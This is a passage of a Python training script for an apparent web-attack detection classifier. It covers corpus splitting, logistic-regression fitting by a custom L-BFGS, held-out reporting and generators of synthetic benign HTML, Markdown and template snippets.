"""Train, and report on, the semantic model shipped as ``guard/data/semantic_model.json.gz``.

Run ``python -m guard.engine.semantic_train`` (needs the ``train`` extra: numpy). The script is
deterministic: the same corpus and the same :func:`guard.engine.normalize.normalize` give the same
model byte for byte. It

1. splits ``tests/corpora/dev.jsonl`` 80/20 by hashing a near-duplicate key of each payload
   (:func:`is_heldout`), so lines differing only in case, width, spacing or numbers land together;
2. extracts the features of :mod:`guard.engine.semantic` from each normalised training value;
3. fits a class-weighted multinomial logistic regression with L2 by L-BFGS, drops features
   whose weights all stay under ``PRUNE_BELOW`` (which changes no held-out verdict), and
   writes the model;
4. reloads the written file through :class:`~guard.engine.semantic.SemanticAnalyzer` (so the
   report measures exactly what ships) and prints held-out TPR per class, FPR per benign source
   and class accuracy at the default threshold.

numpy is imported inside the functions that fit the model, so the split and the report helpers
stay importable by the test suite without it.
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import json
import math
import random
import re
import time
import unicodedata
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

from guard.engine.detector import SEMANTIC_MIN_LENGTH
from guard.engine.normalize import normalize
from guard.engine.semantic import (
    BLOCKS,
    CLASSES,
    MODEL_FORMAT,
    NGRAM_SIZES,
    SemanticAnalyzer,
    extract,
)
from guard.engine.semantic import select_windows as _select_windows

if TYPE_CHECKING:
    import numpy as np
    import numpy.typing as npt

    FloatArray = npt.NDArray[np.float64]
    IntArray = npt.NDArray[np.int64]

REPO_ROOT = Path(__file__).resolve().parents[2]
DEFAULT_CORPUS = REPO_ROOT / "tests" / "corpora" / "dev.jsonl"
PROSE_CORPUS = REPO_ROOT / "tests" / "corpora" / "prose_tuning.jsonl"
"""Benign technical prose (see ``tests/corpora/PROSE.md``): its 80% split joins the training
lines (less the lines quoting template syntax, see :data:`_TEMPLATE_SYNTAX`), its 20% split is
reported apart."""
_TEMPLATE_SYNTAX = re.compile(r"\{[{%#]|<%")
"""Template tags quoted by documentation are told apart by the ``ssti-statement`` rule's
confirmer; taught to the model as benign, they cost it recall on template injections."""
DEFAULT_OUTPUT = REPO_ROOT / "guard" / "data" / "semantic_model.json.gz"
HELDOUT_PERCENT = 20
DEFAULT_THRESHOLD = 0.7

MIN_DOCS = {"ngram": 3, "token": 3, "structure": 1}
L2 = {"ngram": 5e-5, "token": 5e-5, "structure": 5e-5}
PRUNE_BELOW = 0.1
BENIGN_SHARE = 0.5
CLASS_POWER = 0.5
LBFGS_ITERATIONS = 250

_DIGIT_RUNS = re.compile(r"\d+")


@dataclass(frozen=True)
class Line:
    """One labelled corpus line."""

    payload: str
    label: str
    cls: str
    source: str


def split_key(payload: str) -> str:
    """Return the near-duplicate key of a payload: NFKC, casefold, collapsed blanks and digits."""
    folded = " ".join(unicodedata.normalize("NFKC", payload).casefold().split())
    return _DIGIT_RUNS.sub("0", folded)


def is_heldout(payload: str) -> bool:
    """Return True when ``payload`` belongs to the held-out 20% (a stable hash of its key)."""
    key = split_key(payload).encode("utf-8", "surrogatepass")
    digest = hashlib.blake2b(key, digest_size=8).digest()
    return int.from_bytes(digest, "big") % 100 < HELDOUT_PERCENT


def load_corpus(path: Path = DEFAULT_CORPUS) -> list[Line]:
    """Read a JSON Lines corpus in the ``dev.jsonl`` format."""
    with path.open(encoding="utf-8") as fh:
        return [
            Line(row["payload"], row["label"], row["class"], row["source"])
            for row in map(json.loads, fh)
        ]


def split(lines: Iterable[Line]) -> tuple[list[Line], list[Line]]:
    """Return (train, held-out) by :func:`is_heldout`."""
    train: list[Line] = []
    heldout: list[Line] = []
    for line in lines:
        (heldout if is_heldout(line.payload) else train).append(line)
    return train, heldout


def featurize(payload: str) -> tuple[set[str], set[str], set[str]]:
    """Return the feature sets the analyzer would read from a raw payload."""
    return extract(_select_windows(normalize(payload)), NGRAM_SIZES)


def sample_weights(lines: Sequence[Line]) -> list[float]:
    """Weight lines so sources and classes count by the square root of their size.

    A generator or a sqlmap dump with thousands of near-identical lines would otherwise teach
    the model its quirks; the square root keeps big sources ahead of small ones but not by 100x.
    Benign lines together weigh ``BENIGN_SHARE`` of the total.
    """
    per_group = Counter((line.cls, line.source) for line in lines)
    class_mass: defaultdict[str, float] = defaultdict(float)
    for (cls, _source), count in per_group.items():
        class_mass[cls] += math.sqrt(count)
    per_class = Counter(line.cls for line in lines)
    attack_target = {c: n**CLASS_POWER for c, n in per_class.items() if c != "benign"}
    attack_total = sum(attack_target.values())
    target = {c: (1 - BENIGN_SHARE) * t / attack_total for c, t in attack_target.items()}
    target["benign"] = BENIGN_SHARE
    weights = [
        target[line.cls] * math.sqrt(per_group[(line.cls, line.source)])
        / per_group[(line.cls, line.source)] / class_mass[line.cls]
        for line in lines
    ]
    scale = len(lines) / sum(weights)
    return [w * scale for w in weights]


@dataclass
class Design:
    """A sparse design matrix in CSR and CSC form, with its column names per block."""

    names: list[tuple[str, str]]
    row_ptr: IntArray
    row_cols: IntArray
    row_vals: FloatArray
    col_ptr: IntArray
    col_rows: IntArray
    col_vals: FloatArray
    n_rows: int


def build_vocabulary(features: Sequence[tuple[set[str], set[str], set[str]]]) -> dict[str, int]:
    """Return ``block\\x00name -> column`` for features seen in at least ``MIN_DOCS`` lines."""
    docs: Counter[tuple[int, str]] = Counter()
    for sets in features:
        for block_index, names in enumerate(sets):
            docs.update((block_index, name) for name in names)
    vocab: dict[str, int] = {}
    for (block_index, name), count in sorted(docs.items()):
        if count >= MIN_DOCS[BLOCKS[block_index]]:
            vocab[f"{BLOCKS[block_index]}\x00{name}"] = len(vocab)
    return vocab


def build_design(
    features: Sequence[tuple[set[str], set[str], set[str]]], vocab: dict[str, int]
) -> Design:
    """Return the scaled design matrix of ``features`` over ``vocab``."""
    import numpy as np

    ptr = [0]
    cols: list[int] = []
    vals: list[float] = []
    for grams, tokens, structure in features:
        for block, names, scale in (
            ("ngram", grams, 1.0 / math.sqrt(len(grams))),
            ("token", tokens, 1.0 / math.sqrt(len(tokens) or 1)),
            ("structure", structure, 1.0),
        ):
            for name in sorted(names):
                col = vocab.get(f"{block}\x00{name}")
                if col is not None:
                    cols.append(col)
                    vals.append(scale)
        ptr.append(len(cols))
    row_ptr = np.asarray(ptr, dtype=np.int64)
    row_cols = np.asarray(cols, dtype=np.int64)
    row_vals = np.asarray(vals, dtype=np.float64)
    rows = np.repeat(np.arange(len(features), dtype=np.int64), np.diff(row_ptr))
    order = np.lexsort((rows, row_cols))
    col_counts = np.bincount(row_cols, minlength=len(vocab))
    col_ptr = np.concatenate(([0], np.cumsum(col_counts))).astype(np.int64)
    column_names = [key.split("\x00", 1) for key in vocab]
    return Design(
        names=[(block, name) for block, name in column_names],
        row_ptr=row_ptr,
        row_cols=row_cols,
        row_vals=row_vals,
        col_ptr=col_ptr,
        col_rows=rows[order],
        col_vals=row_vals[order],
        n_rows=len(features),
    )


class _Objective:
    """Weighted multinomial log-loss with L2, and its gradient, over a :class:`Design`.

    The two sparse products run as gather + ``np.add.reduceat`` over preallocated float32
    buffers: allocating the (non-zeros x classes) temporaries afresh on every call cost more
    than the arithmetic.
    """

    def __init__(
        self,
        design: Design,
        labels: IntArray,
        weights: FloatArray,
        penalty: FloatArray,
        n_classes: int,
    ) -> None:
        import numpy as np

        self.design = design
        self.n_classes = n_classes
        self.labels = labels
        self.weights = weights
        self.penalty = penalty[:, None]
        nnz = len(design.row_cols)
        self.row_vals = design.row_vals.astype(np.float32)[:, None]
        self.col_vals = design.col_vals.astype(np.float32)[:, None]
        self.buffer = np.empty((nnz, n_classes), dtype=np.float32)
        self.rows = np.arange(design.n_rows)

    def __call__(self, params: FloatArray) -> tuple[float, FloatArray]:
        import numpy as np

        design, buffer = self.design, self.buffer
        n_cols, n_classes = len(design.names), self.n_classes
        coef = params[: n_cols * n_classes].reshape(n_cols, n_classes)
        np.take(coef.astype(np.float32), design.row_cols, axis=0, out=buffer)
        buffer *= self.row_vals
        logits = np.add.reduceat(buffer, design.row_ptr[:-1], axis=0).astype(np.float64)
        logits += params[n_cols * n_classes :]
        logits -= logits.max(axis=1, keepdims=True)
        log_prob = logits - np.log(np.exp(logits).sum(axis=1))[:, None]
        loss = -_dot(self.weights, log_prob[self.rows, self.labels])
        resid = np.exp(log_prob)
        resid[self.rows, self.labels] -= 1.0
        resid *= self.weights[:, None]
        np.take(resid.astype(np.float32), design.col_rows, axis=0, out=buffer)
        buffer *= self.col_vals
        grad_coef = np.add.reduceat(buffer, design.col_ptr[:-1], axis=0).astype(np.float64)
        loss += 0.5 * float(np.sum(self.penalty * coef * coef))
        grad_coef += self.penalty * coef
        return loss, np.concatenate((grad_coef.ravel(), resid.sum(axis=0)))


def fit(design: Design, labels: IntArray, weights: FloatArray) -> tuple[FloatArray, FloatArray]:
    """Fit the multinomial logistic regression by L-BFGS; return (coefficients, bias)."""
    import numpy as np

    n_cols = len(design.names)
    n_classes = len(CLASSES)
    penalty = np.asarray([L2[block] for block, _ in design.names]) * float(weights.sum())
    params = np.zeros(n_cols * n_classes + n_classes)
    objective = _Objective(design, labels, weights, penalty, n_classes)
    params = _lbfgs(objective, params)
    return params[: n_cols * n_classes].reshape(n_cols, n_classes), params[n_cols * n_classes :]


def _dot(a: FloatArray, b: FloatArray) -> float:
    # numpy's pairwise sum, not BLAS: a threaded BLAS may add in a different order per run, and
    # the trainer must give the same model byte for byte.
    return float((a * b).sum())


def _lbfgs(
    func: Callable[[FloatArray], tuple[float, FloatArray]],
    x: FloatArray,
    memory: int = 10,
) -> FloatArray:
    loss, grad = func(x)
    s_hist: list[FloatArray] = []
    y_hist: list[FloatArray] = []
    for _ in range(LBFGS_ITERATIONS):
        direction = -grad
        alphas: list[float] = []
        for s, y in zip(reversed(s_hist), reversed(y_hist), strict=True):
            alpha = _dot(s, direction) / _dot(y, s)
            direction -= alpha * y
            alphas.append(alpha)
        if s_hist:
            direction *= _dot(s_hist[-1], y_hist[-1]) / _dot(y_hist[-1], y_hist[-1])
        for s, y, alpha in zip(s_hist, y_hist, reversed(alphas), strict=True):
            beta = _dot(y, direction) / _dot(y, s)
            direction += (alpha - beta) * s
        step = 1.0 if s_hist else 1.0 / max(1.0, math.sqrt(_dot(grad, grad)))
        slope = _dot(grad, direction)
        while True:
            candidate = x + step * direction
            new_loss, new_grad = func(candidate)
            if new_loss <= loss + 1e-4 * step * slope or step < 1e-10:
                break
            step *= 0.5
        s_vec, y_vec = candidate - x, new_grad - grad
        if _dot(s_vec, y_vec) > 1e-12:
            s_hist.append(s_vec)
            y_hist.append(y_vec)
            if len(s_hist) > memory:
                s_hist.pop(0)
                y_hist.pop(0)
        converged = abs(loss - new_loss) <= 1e-9 * max(1.0, abs(loss))
        x, loss, grad = candidate, new_loss, new_grad
        if converged:
            break
    return x


def model_document(
    names: Sequence[tuple[str, str]], coef: FloatArray, bias: FloatArray
) -> dict[str, object]:
    """Return the JSON model: weights rounded to 3 places, features under ``PRUNE_BELOW`` gone."""
    blocks: dict[str, dict[str, list[float]]] = {block: {} for block in BLOCKS}
    for (block, name), row in zip(names, coef.tolist(), strict=True):
        if max(abs(w) for w in row) >= PRUNE_BELOW:
            blocks[block][name] = [round(w, 3) for w in row]
    return {
        "format": MODEL_FORMAT,
        "classes": list(CLASSES),
        "ngram_sizes": list(NGRAM_SIZES),
        "bias": [round(b, 3) for b in bias.tolist()],
        "blocks": {block: dict(sorted(entries.items())) for block, entries in blocks.items()},
    }


def write_model(document: dict[str, object], path: Path) -> None:
    """Write ``document`` gzip-compressed without mtime or name, so retraining is reproducible."""
    raw = json.dumps(document, ensure_ascii=True, separators=(",", ":")).encode("ascii")
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as fh, gzip.GzipFile("", "wb", fileobj=fh, mtime=0) as gz:
        gz.write(raw)


@dataclass(frozen=True)
class Report:
    """Held-out figures at one threshold."""

    detected: dict[str, tuple[int, int]]
    correct_class: dict[str, tuple[int, int]]
    false_positives: dict[str, tuple[int, int]]

    def fpr(self) -> tuple[int, int]:
        """Return (flagged, total) over all benign lines."""
        flagged = sum(f for f, _ in self.false_positives.values())
        return flagged, sum(t for _, t in self.false_positives.values())


def evaluate(analyzer: SemanticAnalyzer, lines: Iterable[Line], threshold: float) -> Report:
    """Score every line and count detections per class and false positives per source; a
    line shorter than the engine's :data:`~guard.engine.detector.SEMANTIC_MIN_LENGTH` counts
    as not flagged, as the engine never asks the model about it."""
    detected: defaultdict[str, list[int]] = defaultdict(lambda: [0, 0])
    correct: defaultdict[str, list[int]] = defaultdict(lambda: [0, 0])
    false_pos: defaultdict[str, list[int]] = defaultdict(lambda: [0, 0])
    for line in lines:
        canonical = normalize(line.payload)
        verdict = analyzer.analyze(canonical)
        # The engine never asks the model about a value under its length gate (a ";)").
        asked = len(canonical.strip()) >= SEMANTIC_MIN_LENGTH
        flagged = asked and verdict.probability >= threshold
        if line.label == "benign":
            false_pos[line.source][0] += flagged
            false_pos[line.source][1] += 1
        else:
            detected[line.cls][0] += flagged
            detected[line.cls][1] += 1
            correct[line.cls][0] += flagged and verdict.attack_type == line.cls
            correct[line.cls][1] += 1
    return Report(
        {k: (v[0], v[1]) for k, v in sorted(detected.items())},
        {k: (v[0], v[1]) for k, v in sorted(correct.items())},
        {k: (v[0], v[1]) for k, v in sorted(false_pos.items())},
    )


def _rate(pair: tuple[int, int]) -> str:
    hits, total = pair
    return f"{hits}/{total} = {100 * hits / total:.2f}%" if total else "0/0"


def format_report(report: Report, threshold: float) -> str:
    """Render a report as the plain-text table the script prints."""
    out = [f"held-out @ threshold {threshold}", "  attack TPR (any class) | class accuracy"]
    for cls, pair in report.detected.items():
        out.append(f"    {cls:<15} {_rate(pair):<22} | {_rate(report.correct_class[cls])}")
    correct = sum(hits for hits, _ in report.correct_class.values())
    detected = sum(hits for hits, _ in report.detected.values())
    out.append(f"  right class among detected attacks {_rate((correct, detected))}")
    out.append(f"  benign FPR overall {_rate(report.fpr())}")
    for source, pair in report.false_positives.items():
        out.append(f"    {source:<48} {_rate(pair)}")
    return "\n".join(out)


def build_model(lines: Sequence[Line]) -> dict[str, object]:
    """Fit the model on ``lines`` and return its document."""
    import numpy as np

    features = [featurize(line.payload) for line in lines]
    design = build_design(features, build_vocabulary(features))
    labels = np.asarray([CLASSES.index(line.cls) for line in lines], dtype=np.int64)
    weights = np.asarray(sample_weights(lines), dtype=np.float64)
    coef, bias = fit(design, labels, weights)
    return model_document(design.names, coef, bias)


def gate_rejections(analyzer: SemanticAnalyzer, lines: Iterable[Line]) -> dict[str, list[int]]:
    """Count, per attack class and per benign source, the lines the gate lets skip the model."""
    counts: defaultdict[str, list[int]] = defaultdict(lambda: [0, 0])
    for line in lines:
        key = line.source if line.label == "benign" else line.cls
        counts[key][0] += not analyzer.worth_analyzing(normalize(line.payload))
        counts[key][1] += 1
    return dict(sorted(counts.items()))


def format_gate(counts: dict[str, list[int]]) -> str:
    """Render :func:`gate_rejections` (attack lines skipped should stay near zero)."""
    out = ["gate (whole corpus): lines that skip the model"]
    out.extend(f"    {key:<48} {_rate((n, total))}" for key, (n, total) in counts.items())
    return "\n".join(out)


MARKUP_SOURCE = "synthetic:benign-markup"
MARKUP_LINES = 1500
MARKUP_SEED = 20251125

_MARKUP_WORDS = (
    "build", "docs", "coverage", "license", "version", "downloads", "chat", "sponsor", "status",
    "release", "stable", "latest", "wheel", "tests", "style", "format", "install", "support",
    "changelog", "security", "community", "roadmap", "examples", "tutorial", "api", "guide",
)
_MARKUP_HOSTS = (
    "img.shields.io/badge", "github.com/acme", "example.readthedocs.io/en/latest",
    "pypi.org/project", "codecov.io/gh/acme", "raw.githubusercontent.com/acme/main/docs",
    "badge.fury.io/py", "opencollective.com/acme", "docs.example.org", "www.example.com/static",
)
_MARKUP_TEMPLATES = (
    '<a href="{url}"><img alt="{title}" src="{img}" /></a>',
    '<a href="{url}"><img src="{img}" alt="{title}" height="{n}"></a>',
    '<a href="{url}"><img title="{title}" src="{img}" width="{n}" /></a>',
    '<img src="{img}" alt="{title}" width="{n}">',
    '<p align="center">', "</p>", '<div align="center">', "</div>", "<br/>", "<hr>",
    '<a href="{url}">{title}</a>', '<a href="{url}" title="{title}">{title}</a>',
    "<b>{title}</b>: see the {word} page.", "<strong>{title}</strong>", "<em>{word}</em>",
    "<code>{word}</code> is optional", '<h1 align="center">{title}</h1>', "<h2>{title}</h2>",
    "<table>", "<tr><td>{title}</td><td>{word}</td></tr>", "<th>{title}</th>",
    "<ul><li>{title}</li></ul>", '<li><a href="{url}">{title}</a></li>',
    '<picture><source media="(prefers-color-scheme: dark)" srcset="{img}">'
    '<img alt="{title}" src="{img}"></picture>',
    '<span class="{word}">{title}</span>', "<sup>{n}</sup>", "<kbd>Ctrl</kbd>+<kbd>C</kbd>",
    "<details><summary>{title}</summary>", "</details>",
    '<a href="{url}"><img alt="{title}" src="{img}" /></a> <a href="{url2}">'
    '<img alt="{word}" src="{img2}" /></a>',
    "[![{title}]({img})]({url})", "![{title}]({img})", "[{title}]({url})", "**{title}**",
    "| {title} | {word} |", "> **Note**: the {word} page lists every {word}.",
    ".. image:: {img}", "   :target: {url}", "   :alt: {title}", ".. |{word}| image:: {img}",
    "`{title} <{url}>`_", "See `{title} <{url}>`_ for the {word} guide.",
)


def benign_markup(count: int = MARKUP_LINES, seed: int = MARKUP_SEED) -> list[Line]:
    """Return ``count`` generated benign lines of rich-text markup, labelled benign.

    Badges, links, images with alt text, tables and formatting tags in HTML, Markdown and reST,
    as READMEs and CMS fields carry them: ``dev.jsonl`` has almost none, so the model would
    otherwise read any ``"><img src=`` as script. Built from the templates above with invented
    hosts and words, not copied from any package's documentation (the held-out corpus draws on
    real READMEs, which must stay unseen).
    """
    rng = random.Random(seed)

    def url(image: bool) -> str:
        slug = "/".join(rng.sample(_MARKUP_WORDS, rng.randint(1, 3)))
        tail = rng.choice((".svg", ".png", ".svg?style=flat", ".svg?branch=main")) if image else ""
        return f"https://{rng.choice(_MARKUP_HOSTS)}/{slug}{tail}"

    lines: list[Line] = []
    for _ in range(count):
        title = " ".join(rng.sample(_MARKUP_WORDS, rng.randint(1, 3))).title()
        text = rng.choice(_MARKUP_TEMPLATES).format(
            url=url(False), url2=url(False), img=url(True), img2=url(True), title=title,
            word=rng.choice(_MARKUP_WORDS), n=rng.choice((20, 50, 120, 150, 190, 200)),
        )
        lines.append(Line(text, "benign", "benign", MARKUP_SOURCE))
    return lines


TEMPLATE_SOURCE = "synthetic:benign-templates"
TEMPLATE_LINES = 1000
TEMPLATE_SEED = 20261127

_T_OBJECTS = (
    "user", "order", "product", "post", "item", "page", "article", "customer", "invoice",
    "event", "comment", "author", "cart", "account", "profile", "team", "project", "ticket",
    "entry", "booking", "member", "listing", "course", "recipe",
)
_T_ATTRIBUTES = (
    "name", "title", "email", "total", "price", "quantity", "created_at", "updated_at", "slug",
    "id", "status", "description", "first_name", "last_name", "count", "summary", "city",
    "country", "label", "amount", "date", "excerpt", "avatar_url", "display_name", "sku",
    "currency", "due_date", "position", "score", "body",
)
_T_COLLECTIONS = (
    "items", "products", "posts", "orders", "users", "comments", "entries", "rows", "tags",
    "results", "links", "events", "members", "invoices", "tasks", "reviews", "photos",
)
_T_PARTIALS = (
    "header", "footer", "nav", "sidebar", "card", "pagination", "breadcrumbs", "flash",
    "product_card", "user_badge", "empty_state", "price_tag", "meta",
)
_T_SECTIONS = ("cart", "nav", "auth", "checkout", "errors", "home", "orders", "profile", "footer",
               "search", "common", "emails")
_T_KEYS = ("title", "total", "sign_in", "sign_out", "welcome", "button", "required", "empty",
           "more", "greeting", "subtitle", "items_count", "placeholder", "save", "cancel")
_T_WORDS = (
    "No results", "Your cart is empty", "Read more", "Price", "Order summary", "Sign in",
    "Last updated", "Contact us", "Total", "Shipping", "Free returns", "Out of stock",
    "Add to cart", "View all", "Next page", "Previous", "Subscribe", "Terms of service",
    "Privacy", "Due today", "Draft", "Published", "Archived", "Details", "Download PDF",
    "Edit profile", "Log out", "Save changes", "Quantity", "Subtotal",
)
_T_JINJA_FILTERS = (
    "upper", "lower", "title", "capitalize", "escape", "e", "striptags", "trim", "length",
    "default('n/a')", "truncate(80)", 'date("Y-m-d")', "wordcount", "round(2)", "first",
    "join(', ')", "format_currency", "urlencode", "safe", "linebreaksbr", "naturaltime",
    "floatformat:2", "pluralize", "date:\"D d M Y\"", "intcomma", "filesizeformat",
)
_T_LIQUID_FILTERS = (
    "escape", "upcase", "downcase", "money", 'date: "%b %d, %Y"', 'default: "n/a"',
    "truncate: 50", "size", "strip_html", "url_encode", "handleize", "capitalize",
    "money_with_currency", "img_url: '300x'", "asset_url", "stylesheet_tag", "t",
)
# Template source by language, one snippet each: {o} an object, {a} an attribute, {c} a
# collection, {v} a loop variable, {p} a partial, {k} a message key, {w} words, {f} a Jinja-style
# filter, {lf} a Liquid filter, {n} a small number.
_T_SNIPPETS: dict[str, tuple[str, ...]] = {
    "jinja": (  # Jinja, Twig, Django, Nunjucks
        "{{{{ {o}.{a} }}}}", "{{{{ {o}.{a}|{f} }}}}", "{{{{ {o}.{a} | {f} }}}}",
        "{{% for {v} in {c} %}}", "{{% endfor %}}", "{{% if {o}.{a} %}}", "{{% else %}}",
        "{{% endif %}}", "{{% elif {o}.{a} == '{a}' %}}", "{{% block content %}}",
        "{{% endblock %}}",
        '{{% extends "layouts/base.html" %}}', "{{% include 'partials/_{p}.html' %}}",
        "{{% include \"components/{p}.html.twig\" with {{'title': {o}.{a}}} only %}}",
        "{{% url '{c}:detail' slug={o}.slug %}}", '{{% trans "{w}" %}}', "{{{{ _('{w}') }}}}",
        "{{% set total = 0 %}}", "{{{{ loop.index }}}}", "{{% for {v} in {c} if {v}.{a} %}}",
        "{{% macro field(name, label, type='text') %}}", "{{% endmacro %}}", "{{% load static %}}",
        "{{% static 'css/{p}.css' %}}", "{{{{ {o}.{a}|default:\"{w}\" }}}}",
        "{{{{ {v}.{a} }}}} ({{{{ {v}.{c}|length }}}})", "{{% with {v}={o}.{a} %}}",
        "{{{{ {o}.{a} is empty ? '{w}' : {o}.{a} }}}}", "{{% if {c}|length > {n} %}}",
        "{{{{ '{s}.{k}'|trans }}}}", "{{{{ {o}.{a}|date('d/m/Y') }}}}", "{{% csrf_token %}}",
    ),
    "liquid": (  # Liquid (Shopify, Jekyll)
        "{{{{ {o}.{a} | {lf} }}}}", "{{% assign {v} = {o}.{a} | {lf} %}}",
        "{{% for {v} in {o}.{c} limit: {n} %}}", "{{% render '{p}', {o}: {o} %}}",
        "{{{{ '{s}.{k}' | t }}}}", "{{{{ site.baseurl }}}}/{c}/", "{{{{ page.{a} | {lf} }}}}",
        "{{% capture {v} %}}{{{{ {o}.{a} }}}}{{% endcapture %}}", "{{% unless {o}.{a} %}}",
        "{{% endunless %}}", "{{% comment %}}{w}{{% endcomment %}}", "{{{{ content }}}}",
        "{{% paginate {o}.{c} by {n} %}}", "{{% post_url 2024-03-0{n}-{p} %}}",
    ),
    "handlebars": (  # Handlebars, Mustache
        "{{{{#each {c}}}}}", "{{{{/each}}}}", "{{{{#if {o}.{a}}}}}", "{{{{/if}}}}", "{{{{else}}}}",
        "{{{{> {p}}}}}", "{{{{{{{o}.{a}}}}}}}", "{{{{this.{a}}}}}", "{{{{@index}}}}",
        "{{{{#with {o}}}}}{{{{{a}}}}}{{{{/with}}}}", "{{{{#unless {a}}}}}{w}{{{{/unless}}}}",
        "{{{{t \"{s}.{k}\"}}}}", "{{{{formatDate {o}.{a} \"YYYY-MM-DD\"}}}}", "{{{{! {w} }}}}",
        "{{{{^{c}}}}}{w}{{{{/{c}}}}}", "{{{{#{c}}}}}<li>{{{{{a}}}}}</li>{{{{/{c}}}}}",
    ),
    "go": (  # Go templates, Helm, Hugo
        "{{{{ .Values.image.repository }}}}:{{{{ .Values.image.tag }}}}",
        '{{{{- include "{p}.fullname" . }}}}', '{{{{- include "{p}.labels" . | nindent {n} }}}}',
        "{{{{ range .{C} }}}}{{{{ .{A} }}}}{{{{ end }}}}",
        "{{{{ with .Params.{a} }}}}{{{{ .Name }}}}{{{{ end }}}}",
        '{{{{ .Date.Format "2006-01-02" }}}}', '{{{{ printf "%s-%s" .Release.Name .Chart.Name }}}}',
        "{{{{- toYaml .Values.resources | nindent {n} }}}}", '{{{{ partial "{p}.html" . }}}}',
        "{{{{- if .Values.{a}.enabled }}}}", "{{{{- end }}}}", "{{{{ .Release.Namespace }}}}",
        "{{{{ .{A} | html }}}}", "{{{{ $.Site.Title }}}}", '{{{{< figure src="/img/{p}.jpg" >}}}}',
        "{{{{ range $key, $value := .Values.{a} }}}}", "{{{{ $key }}}}: {{{{ $value | quote }}}}",
        '{{{{ template "{p}" . }}}}', '{{{{ define "{p}" }}}}', "{{{{ len .{C} }}}}",
    ),
    "erb": (  # ERB, EJS
        "<%= {o}.{a} %>", "<%= @{o}.{a} %>", "<% @{c}.each do |{v}| %>", "<% end %>",
        "<%= link_to '{w}', {o}_path(@{o}) %>", "<%= t('.{k}') %>",
        "<%= t('{s}.{k}', count: {n}) %>",
        "<% if @{o}.{a}.present? %>", "<%= render '{p}', {o}: @{o} %>",
        "<%= number_to_currency(@{o}.{a}) %>",
        "<%- include('partials/{p}', {{ {o}: {o} }}) %>", "<% if ({o}) {{ %>", "<% }} %>",
        "<% {c}.forEach(function({v}) {{ %>", "<% }}) %>", "<%= {v}.{a} %>", "<%# {w} %>",
        "<%= form_with model: @{o} do |form| %>", "<%= image_tag @{o}.{a}, alt: '{w}' %>",
    ),
    "freemarker": (  # FreeMarker, Velocity
        "${{{o}.{a}}}", "<#list {c} as {v}>${{{v}.{a}}}</#list>", "<#if {o}??>", "</#if>",
        "${{{o}.{a}?string.currency}}", "<#assign total = 0>", '${{{o}.{a}!"{w}"}}',
        "<#include \"/{p}.ftl\">", '<@layout.page title="{w}">', "</@layout.page>", "<#else>",
        "${{{o}.{a}?html}}", '${{{o}.{a}?string("dd.MM.yyyy")}}', "<#sep>, ",
        "#foreach( ${v} in ${c} )", "#end", "#if( ${o}.{a} )", "${o}.{a}", "$!{{{o}.{a}}}",
        "#set( $count = {n} )", "#else",
    ),
    "thymeleaf": (  # Thymeleaf, JSP/EL, Spring
        '<span th:text="${{{o}.{a}}}">{w}</span>', '<tr th:each="{v} : ${{{c}}}">',
        '<a th:href="@{{/{c}/{{id}}(id=${{{o}.id}})}}">{w}</a>',
        '<p th:if="${{{o}.{a} != null}}">', '<td th:text="*{{{a}}}">', "${{{o}.{a}}}",
        '<c:forEach var="{v}" items="${{{c}}}">', '<c:out value="${{{v}.{a}}}"/>',
        '<spring:message code="{s}.{k}"/>',
        '<fmt:formatNumber value="${{{o}.{a}}}" type="currency"/>',
        '<span th:text="${{#temporals.format({o}.{a}, \'dd/MM/yyyy\')}}">',
    ),
    "blade": (  # Blade, Razor, Smarty
        "{{{{ ${o}->{a} }}}}", "@foreach (${c} as ${v})", "@endforeach", "@if (${o}->{a})",
        "@endif",
        "{{{{ __('{s}.{k}') }}}}", "@include('partials.{p}')", "{{{{ route('{c}.show', ${o}) }}}}",
        "@extends('layouts.app')", "@section('content')", "@endsection", "@csrf",
        "@Model.{A}", "@foreach (var {v} in Model.{C})", "@Html.DisplayFor(m => m.{A})",
        "{{${o}.{a}|escape}}", "{{foreach ${c} as ${v}}}", "{{/foreach}}", "{{if ${o}.{a}}}",
        "{{/if}}",
    ),
    "vue": (  # Vue, Angular, Svelte
        "{{{{ {o}.{a} }}}}", "{{{{ $t('{s}.{k}') }}}}",
        "{{{{ $t('{s}.{k}', {{ {a}: {o}.{a} }}) }}}}",
        '<li v-for="{v} in {c}" :key="{v}.id">{{{{ {v}.{a} }}}}</li>', "{{{{ {o}?.{a} }}}}",
        '<div *ngFor="let {v} of {c}">{{{{ {v}.{a} | uppercase }}}}</div>',
        "{{{{ {o}.{a} | currency:'EUR' }}}}", "{{{{ {o}.{a} | date:'short' }}}}",
        "{{#each {c} as {v}}}", "{{/each}}", "{{#if {o}.{a}}}", "{{{o}.{a}}}",
    ),
    "i18n": (  # ICU, gettext, i18n resource files
        '"{k}": "{w}, {{name}}!"', '"{k}": "{{count, plural, one {{# item}} other {{# items}}}}"',
        'msgid "{w}"', 'msgstr "{w}"', '{k}: "{w} %{{name}}"', "{s}.{k}={w} {{0}}",
        '"{k}": "{w} {{{{count}}}}"', "{k} = {w}, {{ $name }}",
    ),
}
_T_WRAPPERS = ("<p>{x}</p>", "<li>{x}</li>", "<td>{x}</td>",
               '<div class="{p}">{x}</div>', "<h1>{x}</h1>", "<span>{x}</span>")


def _template_snippet(rng: random.Random, language: tuple[str, ...]) -> str:
    """One snippet of ``language`` (a group of :data:`_T_SNIPPETS`) with invented names."""
    o, v = rng.sample(_T_OBJECTS, 2)
    a, c = rng.choice(_T_ATTRIBUTES), rng.choice(_T_COLLECTIONS)
    return rng.choice(language).format(
        o=o, a=a, c=c, v=v, p=rng.choice(_T_PARTIALS), k=rng.choice(_T_KEYS),
        s=rng.choice(_T_SECTIONS), w=rng.choice(_T_WORDS), n=rng.randint(1, 12),
        f=rng.choice(_T_JINJA_FILTERS), lf=rng.choice(_T_LIQUID_FILTERS),
        A="".join(x.title() for x in a.split("_")), C=c.title(),
    )


def benign_templates(count: int = TEMPLATE_LINES, seed: int = TEMPLATE_SEED) -> list[Line]:
    """Return ``count`` generated benign lines of template source, labelled benign.

    Output tags, loops, conditions, includes, filters and translation keys in the template
    languages CMS editors and developers paste (Jinja, Django, Twig, Liquid, Handlebars,
    Go and Helm, ERB and EJS, FreeMarker, Velocity, Thymeleaf and JSP, Blade, Razor, Smarty,
    Vue, Angular, Svelte) and the placeholders of i18n files, naming data only. Without them
